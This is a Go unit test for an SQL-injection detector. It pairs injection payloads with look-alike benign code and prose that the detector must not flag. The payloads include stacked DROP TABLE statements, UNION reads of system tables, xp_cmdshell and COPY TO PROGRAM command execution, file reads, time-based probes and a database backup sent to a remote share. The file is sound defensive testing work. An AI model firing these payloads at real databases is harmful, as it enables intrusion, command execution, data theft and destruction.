package detect

import (
	"context"
	"testing"
)

// TestSQLiQuality pins the SQL-injection rules against their hardest neighbours: the
// attacks are written from injection grammar (a literal closed and SQL appended), the
// benign rows are program code and prose that use the same characters — quoted
// literals compared with || and &&, a call ended by ");" and followed by if (…), a
// quoted operator such as '/' or "=", len(x) and strcmp(a, "b").
func TestSQLiQuality(t *testing.T) {
	d := newTestDetector(t)
	cases := []struct {
		where, in string
		threat    bool
	}{
		// A quote, a separator and a stacked statement with SQL arguments.
		{"query:name", "bob'; DROP TABLE members--", true},
		{"query:name", "bob'); INSERT INTO members VALUES (1,'x')--", true},
		{"query:name", "bob'; SELECT password FROM members--", true},
		{"query:name", "bob'; IF EXISTS(SELECT 1 FROM members) WAITFOR DELAY '0:0:9'--", true},
		{"query:name", "bob'; DESC members; --", true},
		{"query:name", "bob\"; EXEC xp_cmdshell 'whoami'--", true},
		// Program code: a call ended by "); then if / while / goto.
		{"body:text", "ctx = lookup(table, \"session\");\n    if (ctx == NULL) {\n        goto cleanup;\n    }", false},
		{"query:q", "report(\"cannot open file\");\n    goto out;", false},
		{"query:q", "var panel = document.getElementById('sidebar');\nif (panel) { panel.hidden = true; }", false},
		{"query:q", "label = 'idle';\nwhile (queue.length > 0) { step(); }", false},
		{"query:q", "msg = \"done\"; use it later", false},

		// A break-out quote then boolean logic.
		{"query:user", "carol' OR 'k'='k", true},
		{"query:user", "carol\" OR \"k\"=\"k", true},
		{"query:user", "carol' AND 4>3-- ", true},
		{"query:user", "carol')) OR ((7=7", true},
		// Closed literals compared in code (an even count of quotes before each one).
		{"query:q", "if mode == 'fast' or level == 'max':\n    run()", false},
		{"query:q", "if os == \"linux\" or os == \"freebsd\":\n    arch = \"x86\"", false},
		{"query:q", "ok := kind != \"\" && kind != \"none\"", false},
		{"query:q", "if (state === 'open' || state === 'pending') { render(); }", false},

		// A break-out quote then an operator and another operand.
		{"query:q", "z' * 'y' = 0 = '1", true},
		{"query:q", "'^'", true},
		// A quoted operator is a literal token in code and prose.
		{"query:q", "parts = strings.Split(p, \"/\")", false},
		{"query:q", "case '+':\n    sign = 1", false},
		{"query:q", "Columns are separated by '|' and rows by '-' in this format.", false},
		{"query:q", "join the fields with ' + ' between them", false},

		// Tautology glued to the keyword.
		{"query:id", "5 or'x'='x", true},

		// SQL functions shared with programming languages and maths.
		{"query:id", "1 AND ASCII(SUBSTRING((SELECT name FROM users LIMIT 1),1,1))>64", true},
		{"query:q", "if (!strcmp(argv[1], \"--help\")) usage();", false},
		{"query:q", "n = len(items) if items != '' else 0", false},
		{"query:q", "var tail = location.hash.substr(1);\nif (tail === '') return;", false},
		{"query:q", "y = sqrt(2*x + 1) - sin(3*x)", false},

		// A quote then a comment: the tail of an option in quotes is not a comment,
		// nor is C's preprocessor line after ");".
		{"query:user", "carol'-- ", true},
		{"query:user", "carol';# trailing", true},
		{"query:q", "merge and rebase now accept \"--quiet\"", false},
		{"query:q", "report(\"not supported\");\n#endif", false},
		{"query:q", "printf(\"------------------------\\n\\n\");", false},

		// A quote then a statement: an opening quote in prose is not a break-out.
		{"query:id", "7'union select name from users--", true},
		{"query:q", "The \"DROP TABLE audit\" statement is now logged", false},

		// SLEEP as an SQL operand, not a program statement.
		{"query:id", "5 AND SLEEP(4)", true},
		{"query:id", "5'||sleep(4)||'", true},
		{"query:q", ">>> from time import sleep\n>>> sleep(3)", false},

		// SQLite catalog only as a table read.
		{"query:id", "1 UNION SELECT sql FROM sqlite_master--", true},
		{"query:q", "The prepare step returns SQLITE_SCHEMA errors when the schema changed", false},

		// Comment-newline obfuscation, not a link or a Python comment.
		{"query:id", "1--ab\nOR--cd\n5=5", true},
		{"query:q", "see <a href=\"#opts\">OPTIONS</a>\n or the manual", false},
		{"query:q", "#\nfrom decimal import Decimal", false},

		// Names and maths.
		{"query:q", "Amy Tan (3):\n      docs: fix typo", false},
		{"query:q", "the crc32(), adler32() and uncompress() helpers", false},

		// Float DoS value, not DBL_MIN as printed by every language.
		{"body:text", "amount=2.2250738585072011e-308", true},
		{"query:q", "const smallestNormal = 2.2250738585072014e-308 // 0x1p-1022", false},

		// Round 5: a sub-select as an operand, simple CASE, numeric expressions,
		// T-SQL DECLARE, PROCEDURE ANALYSE, COPY and BACKUP to a remote target.
		{"query:id", "4 + some(select 1)", true},
		{"query:id", "3=(select count(*) from orders)", true},
		{"query:q", "zed' like (select 'a')-- ", true},
		{"query:id", "case 3 when 4 then 1 else 0 end", true},
		{"query:id", "~4*(3) and 2 > ~5", true},
		{"query:q", "DECLARE @cmd", true},
		{"query:id", "1 procedure analyse(extractvalue(1,0x3a),1)", true},
		{"query:id", "2;copy (select '') to program 'id'", true},
		{"query:q", "BACKUP DATABASE shop TO DISK = '\\\\198.51.100.7\\s\\shop.bak'", true},
		{"query:id", "7 and sleep(floor(2.5))", true},
		{"query:q", "case x when 1 then \"one\" else \"many\" end", false},
		{"query:q", "Use SOME (subquery) or ANY (subquery) to compare against a list.", false},
		{"query:q", "Where n = 5 the sum 1 + 2 + ... + n is 15", false},
		{"query:q", "pattern '%son%' matches Johnson", false},
		{"query:q", "#ifdef HAVE_USLEEP\n\tusleep(100);\n#else\n\tsleep(1);\n#endif", false},
		{"query:q", "--TEST--\nplain\n--INPUT--\nSELECT 1\n", false},
		{"query:q", "return f\"<Point({self.x}, {self.y})>\"", false},
		{"query:q", "alert = self.version()\n# keep the socket open", false},

		// SQL Server and MySQL names in prose.
		{"query:q", "Run EXEC sp_help 'dbo.Orders' to list the columns.", false},
		{"query:q", "information_schema.tables lists every table the account can see", false},
		{"query:q", "The load_file() function needs the FILE privilege.", false},
		{"query:id", "1; exec master..xp_cmdshell 'dir'", true},
		{"query:id", "-1 union select table_name from information_schema.tables", true},
		{"query:id", "0 union select load_file('/etc/hosts')", true},
		{"query:user", "5\" and +\"5", true},
		{"query:q", "answer \"yes\" or \"no", false},
		{"query:id", "-2 union select name from sysusers", true},

		// Maths is not SQL: trigonometric calls count only as SQL operands.
		{"query:id", "select cos(0),2 from dual where 1=1", true},
		{"query:q", "f = sin(x) * cos(x)\nassert limit(sin(x)/x, x, 0) == 1", false},
		{"query:q", "z = sqrt(x - 3) + sqrt(x) - 3", false},
		// Documentation shapes.
		{"query:q", "Packages that add a systemd-sysusers snippet in #DEBHELPER#.", false},
		{"query:q", "shorter than the default --help\n and --version output", false},
		{"query:q", "Title \"#aaffaa\"\n---------------", false},
		{"query:q", "<!-- keep \"one logical change\" -->", false},
		{"query:q", "<h3><a name=\"shutdown\">The shutdown of the server</a></h3>", false},
		{"query:id", "4) OR (3=3)#", true},
		{"query:q", "b = int(ceil(sqrt(self.count)))  # pivot block size\nreturn b", false},
	}
	for _, tc := range cases {
		r := d.Detect(context.Background(), tc.in, tc.where)
		if r.IsThreat != tc.threat {
			t.Errorf("Detect(%q, %s) threat = %v, want %v (%+v)", tc.in, tc.where, r.IsThreat, tc.threat, r.Threats)
		}
	}
}
